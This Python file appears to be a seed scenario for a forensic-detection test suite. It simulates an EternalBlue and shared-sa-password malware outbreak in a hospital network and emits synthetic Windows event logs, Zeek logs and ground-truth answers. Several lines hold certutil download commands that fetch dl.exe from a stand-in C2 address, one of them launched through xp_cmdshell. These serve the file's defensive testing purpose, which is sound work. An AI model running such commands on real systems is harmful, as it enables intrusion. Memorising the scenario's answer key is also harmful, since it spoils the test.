"""Seed case 5: hospital; EternalBlue downloader, one shared SQL Server ``sa`` password, 11 families.

EternalBlue from an address of the equipment vendor's remote-maintenance range reaches
``HIS-DB``. The downloader drops one randomly named ``.exe`` into ``C:\\Windows`` per family
(eleven: worm, miner, ransomware, RAT, botnet …) with a service of the same name each; the
host blue-screens and reboots. With ``sa``'s password (the same on every SQL Server) it logs
in to ``PACS-DB`` and ``LIS-DB`` and runs its downloader through ``xp_cmdshell``; EternalBlue
takes ``NURSE-PC01`` and, from there, ``NURSE-PC02``. ``PACS-WS`` is patched (probed, clean);
``LAB-PC`` came as hives only (unknown). The sensor is Zeek (135/137/138/445 traffic).
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from deminer.scenarios import win_events as wg
from deminer.scenarios.net_logs import Network
from deminer.scenarios.seed.case04_eternalblue_services import random_names
from deminer.scenarios.seed.common import Persist, Truth, resolve_names, utc
from deminer.scenarios.seed.hosts_windows import WinBox, workstation

VENDOR, C2 = "198.51.100.201", "198.51.100.150"
START = utc("2024-01-07 20:00:00")
SQLSERVR = r"C:\Program Files\Microsoft SQL Server\MSSQL13.MSSQLSERVER\MSSQL\Binn\sqlservr.exe"
FAMILIES = 11


def _families(box: WinBox, at: dt.datetime, parent: str, truth: Truth, seed: int) -> None:
    box.process(at, r"C:\Windows\System32\certutil.exe",
                f"certutil -urlcache -split -f http://{C2}/dl.exe C:\\Windows\\Temp\\dl.exe", parent)
    items = []
    for i, name in enumerate(random_names(100 + seed, FAMILIES)):
        when = at + dt.timedelta(seconds=30 + 40 * i)
        box.service(when, name, f"C:\\Windows\\{name}.exe")
        box.file(f"C:\\Windows\\{name}.exe", 180_000 + 9000 * i, when, content_seed=f"hospital-family-{i}")
        items.append(Persist("service", name))
    # Eleven families fighting over one machine: a blue screen and an unplanned reboot.
    crash = at + dt.timedelta(minutes=20)
    box.add(wg.Event("Microsoft-Windows-WER-SystemErrorReporting", "{ABCE23E7-DE45-4366-8631-84FA6C525952}",
                     "System", 1001, ["0x00000050 (0xfffff8a00a1b2000, 0x0000000000000000, "
                                      "0xfffff80002c1d3f1, 0x0000000000000000)",
                                      "C:\\Windows\\MEMORY.DMP", "010824-19234-01"],
                     qualifiers=16384, time=crash + dt.timedelta(minutes=2)))
    box.add(wg.Event("Microsoft-Windows-Kernel-Power", "{331C3B3A-2005-44C2-AC5E-77220C37D6B4}", "System", 41,
                     {"BugcheckCode": "80", "BugcheckParameter1": "0xfffff8a00a1b2000",
                      "SleepInProgress": "0", "PowerButtonTimestamp": "0"},
                     version=2, task=63, time=crash + dt.timedelta(minutes=1)))
    truth.infect(box.name.lower(), at, *items)


def _sql_login(box: WinBox, at: dt.datetime, client: str) -> None:
    """MSSQL's own record of a SQL login (Application log, 18454), then xp_cmdshell's child."""
    box.add(wg.Event("MSSQLSERVER", "", "Application", 18454, ["sa", f" [CLIENT: {client}]"],
                     qualifiers=16384, keywords="0xa0000000000000", time=at))
    box.process(at + dt.timedelta(seconds=3), r"C:\Windows\System32\cmd.exe",
                f"cmd.exe /c certutil -urlcache -split -f http://{C2}/dl.exe C:\\Windows\\Temp\\dl.exe",
                SQLSERVR, user="NT Service\\MSSQLSERVER")


def build(out: Path, work: Path) -> Truth:
    truth = Truth(5, "Hospital: EternalBlue downloader, shared sa password, eleven families", "service_rce")
    his, pacs, lis = (WinBox(n, ip, START) for n, ip in (("HIS-DB", "10.5.1.10"), ("PACS-DB", "10.5.1.20"),
                                                          ("LIS-DB", "10.5.1.30")))
    n1, n2 = workstation("NURSE-PC01", "10.5.10.31", START), workstation("NURSE-PC02", "10.5.10.32", START)
    ws = workstation("PACS-WS", "10.5.10.40", START, patched=True)
    lab = workstation("LAB-PC", "10.5.10.50", START)
    for box, verdict in ((his, "infected"), (pacs, "infected"), (lis, "infected"), (n1, "infected"),
                         (n2, "infected"), (ws, "clean"), (lab, "unknown")):
        truth.host(box.name.lower(), box.ip, verdict)
    truth.patient_zero = {"his-db"}
    net = Network(start=START, seed=5, resolver="10.5.0.2")

    def smb(src: str, dst: str, at: dt.datetime, exploit: bool = True) -> None:
        net.now = at - dt.timedelta(seconds=30)
        for port, proto in ((135, "tcp"), (137, "udp"), (138, "udp")):
            net.conn(src, dst, port, proto=proto, duration=0.01, orig_bytes=72, resp_bytes=0, orig_pkts=1,
                     resp_pkts=0, state="S0" if proto == "tcp" else "OTH")
        net.conn(src, dst, 445, service="smb", duration=6.0 if exploit else 0.4,
                 orig_bytes=128_000 if exploit else 600, resp_bytes=3_000 if exploit else 500,
                 orig_pkts=160 if exploit else 6, resp_pkts=40 if exploit else 5)

    # 1. The vendor range to HIS-DB's 445; eleven families move in.
    t_his = utc("2024-01-08 03:00:00")
    smb(VENDOR, his.ip, t_his)
    _families(his, t_his, r"C:\Windows\System32\lsass.exe", truth, seed=0)

    # 2. sa's password on the other SQL Servers (TDS in the sensor, 18454 and xp_cmdshell on the host).
    for box, at in ((pacs, utc("2024-01-08 03:40:00")), (lis, utc("2024-01-08 03:55:00"))):
        net.now = at - dt.timedelta(seconds=2)
        net.conn(his.ip, box.ip, 1433, duration=4.0, orig_bytes=2_200, resp_bytes=3_800, orig_pkts=14,
                 resp_pkts=12)
        _sql_login(box, at, his.ip)
        _families(box, at + dt.timedelta(seconds=10), r"C:\Windows\System32\cmd.exe", truth,
                  seed=1 if box is pacs else 2)
        truth.infected_at[box.name.lower()] = at
        truth.edge("his-db", box.name.lower(), "credential_reuse", at)
    # Noise: the reporting job logs in with its own SQL login every night.
    for box in (his, pacs, lis):
        box.add(wg.Event("MSSQLSERVER", "", "Application", 18454, ["report_ro", " [CLIENT: 10.5.1.60]"],
                         qualifiers=16384, keywords="0xa0000000000000", time=utc("2024-01-08 01:00:00")))

    # 3. EternalBlue into the wards: HIS-DB -> NURSE-PC01 -> NURSE-PC02; PACS-WS is patched.
    for src, dst, at, seed in ((his, n1, utc("2024-01-08 04:30:00"), 3),
                               (n1, n2, utc("2024-01-08 05:10:00"), 4)):
        smb(src.ip, dst.ip, at)
        _families(dst, at, r"C:\Windows\System32\spoolsv.exe", truth, seed=seed)
        truth.edge(src.name.lower(), dst.name.lower(), "eternalblue", at)
    smb(his.ip, ws.ip, utc("2024-01-08 04:35:00"), exploit=False)
    net.now = utc("2024-01-08 06:00:00")
    for src in (his, n1, n2):
        net.smb_worm(src.ip, "10.5.20.", count=30, answered=0, vulnerable=0)

    resolve_names(net, "10.5.1.60", {b.name.lower(): b.ip for b in (his, pacs, lis, n1, n2, ws, lab)})
    for box in (his, pacs, lis, n1, n2, ws):
        box.write(out)
    lab.write(out, logs=False)
    net.write_zeek(out / "sensor" / "zeek")

    for name in ("his-db", "pacs-db", "lis-db", "nurse-pc01", "nurse-pc02"):
        truth.want(name, "execution.win_random_service_binary")
    truth.want("his-db", "lateral_movement.net_worm_fanout", needs="network")
    truth.notes.append("The sa edges rest on MSSQL's 18454 (Application log) with the client address, the "
                       "TDS connection in Zeek and sqlservr.exe starting cmd.exe: SQL logins make no 4624.")
    return truth
